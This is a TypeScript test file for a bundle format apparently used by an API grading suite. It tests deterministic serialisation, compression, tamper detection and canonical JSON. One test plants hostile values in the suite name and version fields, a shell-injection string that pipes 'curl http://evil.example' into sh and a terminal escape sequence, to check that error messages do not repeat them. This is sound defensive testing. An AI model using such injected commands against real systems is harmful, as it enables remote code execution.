import { createHash } from "node:crypto";
import fc from "fast-check";
import { expect, test } from "vitest";
import type { Evidence } from "../evidence/evidence.ts";
import { delivery, exchange } from "../evidence/testing/recorded.ts";
import { grade, type Run } from "../suite/grade.ts";
import { encodeBundle, readBundle, serializeVerdicts, writeBundle } from "./bundle.ts";
import { canonicalJson } from "./canonical-json.ts";

const manifest = exchange({
  vendor: { name: "Vendor" },
  inventory: {},
  authentication: [{ scheme: "bearer" }],
});
const shared = delivery({ id: "evt_1" });

/** Creates a run whose evidence has parts unknown to the bundle code. */
const createRun = (): Promise<Run> =>
  grade({
    target: new URL("https://vendor.example"),
    profiles: ["inventory"],
    only: null,
    stopped: null,
    given: [],
    seed: 1,
    baselined: false,
    startedAt: new Date(0),
    finishedAt: new Date(1000),
    record: {
      parts: {
        discovery: { manifest },
        somethingNew: { deep: [{ exchange: manifest, deliveries: [shared] }], also: shared, count: 3 },
      } as Partial<Evidence>,
      missing: { devices: "not found" },
    },
    placeholders: ["b", "a"],
  });

test("the same run gives the same bytes, and grading them gives the same verdicts", async () => {
  const first = writeBundle(await createRun());
  expect(writeBundle(await createRun())).toBe(first);
  const { recorded, verdicts } = readBundle(Buffer.from(first));
  const again = await grade(recorded);
  expect(serializeVerdicts(again)).toBe(verdicts);
  expect(again).toEqual({ ...(await createRun()), placeholders: ["a", "b"] });
  expect(writeBundle(again)).toBe(first);
});

test("is compressed if its file name says so, and reads the same, with the same digest", async () => {
  const text = writeBundle(await createRun());
  expect(encodeBundle("bundle.json", text)).toBe(text);
  const packed = Buffer.from(encodeBundle("bundle.json.gz", text));
  expect(packed.length).toBeLessThan(text.length / 1.5);
  expect(readBundle(packed)).toEqual(readBundle(Buffer.from(text)));
  expect(() => readBundle(packed.subarray(0, 100))).toThrow(
    expect.objectContaining({ code: "not_a_bundle" }),
  );
});

test("stores shared evidence once", async () => {
  const text = writeBundle(await createRun());
  expect(text.split(shared.bodyBase64)).toHaveLength(2);
});

test("rejects a bundle with any one byte changed", async () => {
  const bytes = Buffer.from(writeBundle(await createRun()));
  fc.assert(
    fc.property(fc.nat({ max: bytes.length - 1 }), fc.integer({ min: 1, max: 255 }), (at, by) => {
      const changed = Buffer.from(bytes);
      changed[at] = (changed[at] ?? 0) ^ by;
      expect(() => readBundle(changed)).toThrow(expect.objectContaining({ name: "BundleError" }));
    }),
    { numRuns: 300 },
  );
});

test.each([
  ["not_a_bundle", "nothing", () => ""],
  ["not_a_bundle", "another document", () => "{}"],
  ["changed", "white space", (text: string) => ` ${text}`],
  [
    "changed",
    "a duplicate member",
    (text: string) => text.replace('"bundle_version":', '"bundle_version":"1","bundle_version":'),
  ],
  [
    "not_a_bundle",
    "JSON nested 20,000 levels deep",
    (text: string) => text.replace('"count":3', `"count":${"[".repeat(20_000)}${"]".repeat(20_000)}`),
  ],
])("%s: %s", async (code, _, change) => {
  const text = change(writeBundle(await createRun()));
  expect(() => readBundle(Buffer.from(text))).toThrow(expect.objectContaining({ code }));
});

test.each([
  ["name", "evil-package; curl http://evil.example|sh;"],
  ["version", "1.0.0; curl http://evil.example|sh"],
  ["version", "1.0.0\u001b[2J"],
])("a bundle's suite %s cannot add to the command that a refusal names", async (member, value) => {
  const { sha256: _, ...content } = JSON.parse(writeBundle(await createRun()));
  content.suite[member] = value;
  content.requirement_set.count = 1;
  content.requirement_set.sha256 = "0".repeat(64);
  const sha256 = createHash("sha256").update(canonicalJson(content)).digest("hex");
  const bytes = Buffer.from(`${canonicalJson({ ...content, sha256 })}\n`);
  let message = "";
  try {
    readBundle(bytes);
  } catch (error) {
    message = (error as Error).message;
  }
  expect(message).toMatch(new RegExp(`At /suite/${member}: `));
  for (const hostile of ["evil", "\u001b"]) expect(message).not.toContain(hostile);
});

test("canonical JSON is identical for equal values and parses to the same value", () => {
  fc.assert(
    fc.property(fc.jsonValue(), (value) => {
      const text = canonicalJson(value);
      expect(canonicalJson(JSON.parse(text))).toBe(text);
      expect(JSON.parse(text)).toEqual(JSON.parse(JSON.stringify(value)));
    }),
  );
  // From RFC 8785, section 3.2.3.
  const sorted = canonicalJson({
    "\u20ac": 1,
    "\r": 2,
    "\ufb33": 3,
    "1": 4,
    "\ud83d\ude00": 5,
    "\u0080": 6,
    "\u00f6": 7,
  });
  expect(Object.values(JSON.parse(sorted) as object)).toHaveLength(7);
  expect([...sorted.matchAll(/:(\d)/g)].map(([, digit]) => digit).join("")).toBe("2467153");
});
